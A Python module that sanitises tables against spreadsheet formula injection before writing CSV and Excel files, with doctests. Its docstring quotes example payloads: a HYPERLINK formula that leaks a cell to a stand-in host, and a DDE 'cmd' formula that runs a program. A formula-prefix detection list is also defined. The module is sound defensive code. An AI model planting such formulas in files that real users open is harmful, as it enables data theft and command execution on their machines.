"""Tables written for spreadsheets without formula injection (CSV and Excel).

A district, hotspot or stakeholder name comes from a downloaded file. Written as it is
to a CSV or Excel file, a name such as ``=HYPERLINK("http://x/?"&A1,"click")`` or
``@SUM(1+1)*cmd|'/c calc'!A0`` is run as a formula when the file is opened in a
spreadsheet. egovkit writes every table through :func:`write_csv` / :func:`write_excel`,
which apply :func:`neutralise_formulas` first, the OWASP way: a **text** cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe
(``'=HYPERLINK(...)``), so the spreadsheet shows it as text.

- Numbers stay numbers: numeric columns are never touched, and a text cell that is a
  plain number (``-12``, ``+3.5``, ``-1e-3``) is not a formula and is kept as it is.
- Column names (and a written text index) are cells too and are neutralised the same way.
- The apostrophe is visible when the file is read back as data (``pandas.read_csv``);
  :func:`restore_text` removes it (only where :func:`neutralise_text` would have added it), so
  that an egovkit file read back by egovkit gives the original text.

This module sits at the bottom of egovkit (it imports only pandas), so that reading,
validation, diagnosis and presentation can all use it.

Examples
--------
>>> import pandas as pd
>>> out = neutralise_formulas(pd.DataFrame({"name": ["=1+1", "Kopo", "-12"], "n": [-1, 2, 3]}))
>>> out["name"].tolist(), out["n"].tolist()
(["'=1+1", 'Kopo', '-12'], [-1, 2, 3])
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any, Mapping

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_text", "restore_text", "neutralise_formulas", "write_csv", "write_excel"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?%?")


def neutralise_text(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text that a spreadsheet would run as a formula.

    Anything that is not a ``str`` (numbers, missing values, dates) is returned unchanged.

    Examples
    --------
    >>> neutralise_text("=HYPERLINK(\\"http://x\\")"), neutralise_text("@SUM(1)")
    ('\\'=HYPERLINK("http://x")', "'@SUM(1)")
    >>> neutralise_text("-3.5"), neutralise_text(-3.5), neutralise_text("Kopo")
    ('-3.5', -3.5, 'Kopo')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore_text(value: Any) -> Any:
    """The inverse of :func:`neutralise_text`, for a file egovkit wrote and reads back.

    Examples
    --------
    >>> restore_text("'=1+1"), restore_text("'Kopo"), restore_text("'-12"), restore_text(3)
    ('=1+1', "'Kopo", "'-12", 3)
    """
    if isinstance(value, str) and value.startswith("'") and neutralise_text(value[1:]) == value:
        return value[1:]
    return value


def _neutralise_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_neutralise_index(lv) for lv in index.levels])
    if pd.api.types.is_numeric_dtype(index.dtype) or pd.api.types.is_bool_dtype(index.dtype):
        return index
    return index.map(neutralise_text)


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells, column names and text index cannot run as formulas.

    Only text (object, string and category) columns are looked at; numeric, boolean and
    date columns are returned as they are. See the module docstring for the rule.

    Examples
    --------
    >>> import pandas as pd
    >>> out = neutralise_formulas(pd.DataFrame({"+x": ["@a", "b"]}))
    >>> list(out.columns), out["'+x"].tolist()
    (["'+x"], ["'@a", 'b'])
    """
    out = df.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        dtype = col.dtype
        if isinstance(dtype, pd.CategoricalDtype):
            cats = [neutralise_text(c) for c in col.cat.categories]
            if len(set(cats)) == len(cats):  # a clash ('=a' next to "'=a") would break the categories
                out.isetitem(i, col.cat.rename_categories(cats))
            else:
                out.isetitem(i, col.astype(object).map(neutralise_text, na_action="ignore"))
        elif pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            out.isetitem(i, col.map(neutralise_text, na_action="ignore").astype(dtype))
    out.columns = _neutralise_index(out.columns)
    out.index = _neutralise_index(out.index)
    return out


def write_csv(df: pd.DataFrame, path: str | Path, **kwargs: Any) -> Path:
    """Write ``df`` to CSV (``DataFrame.to_csv`` arguments) with formulas neutralised.

    ``index=False`` unless given. Returns the path.

    Examples
    --------
    >>> import pandas as pd, tempfile, pathlib
    >>> p = write_csv(pd.DataFrame({"name": ["=1+1"]}), pathlib.Path(tempfile.mkdtemp()) / "t.csv")
    >>> p.read_text().splitlines()
    ['name', "'=1+1"]
    """
    path = Path(path)
    kwargs.setdefault("index", False)
    out = neutralise_formulas(pd.DataFrame(df))
    if "lineterminator" not in kwargs and _has_carriage_return(out):
        # the csv module quotes a field only for the characters of the line terminator: with
        # pandas' "\n", a "\r" inside a name would be written bare and split the row when read
        kwargs["lineterminator"] = "\r\n"
    out.to_csv(path, **kwargs)
    return path


def _has_carriage_return(df: pd.DataFrame) -> bool:
    cols = [c for c in df.columns if pd.api.types.is_object_dtype(df[c].dtype)
            or pd.api.types.is_string_dtype(df[c].dtype) or isinstance(df[c].dtype, pd.CategoricalDtype)]
    return any(df[c].astype(str).str.contains("\r", regex=False).any() for c in cols) or \
        any("\r" in str(c) for c in df.columns)


def write_excel(sheets: pd.DataFrame | Mapping[str, pd.DataFrame], path: str | Path,
                **kwargs: Any) -> Path:
    """Write one table or ``{sheet name: table}`` to an ``.xlsx`` file with formulas neutralised.

    Without it, openpyxl stores any text starting with ``=`` as a live formula. Other
    arguments go to ``DataFrame.to_excel`` (``index=False`` unless given); a single table
    goes to the sheet ``sheet_name`` (default ``"Sheet1"``).

    Examples
    --------
    >>> import pandas as pd, tempfile, pathlib
    >>> p = write_excel({"s": pd.DataFrame({"name": ["=1+1"]})}, pathlib.Path(tempfile.mkdtemp()) / "t.xlsx")
    >>> pd.read_excel(p, sheet_name="s")["name"].tolist()
    ["'=1+1"]
    """
    path = Path(path)
    kwargs.setdefault("index", False)
    if isinstance(sheets, pd.DataFrame):
        sheets = {kwargs.pop("sheet_name", "Sheet1"): sheets}
    with pd.ExcelWriter(path, engine="openpyxl") as xw:
        for name, df in sheets.items():
            neutralise_formulas(pd.DataFrame(df)).to_excel(xw, sheet_name=str(name), **kwargs)
    return path
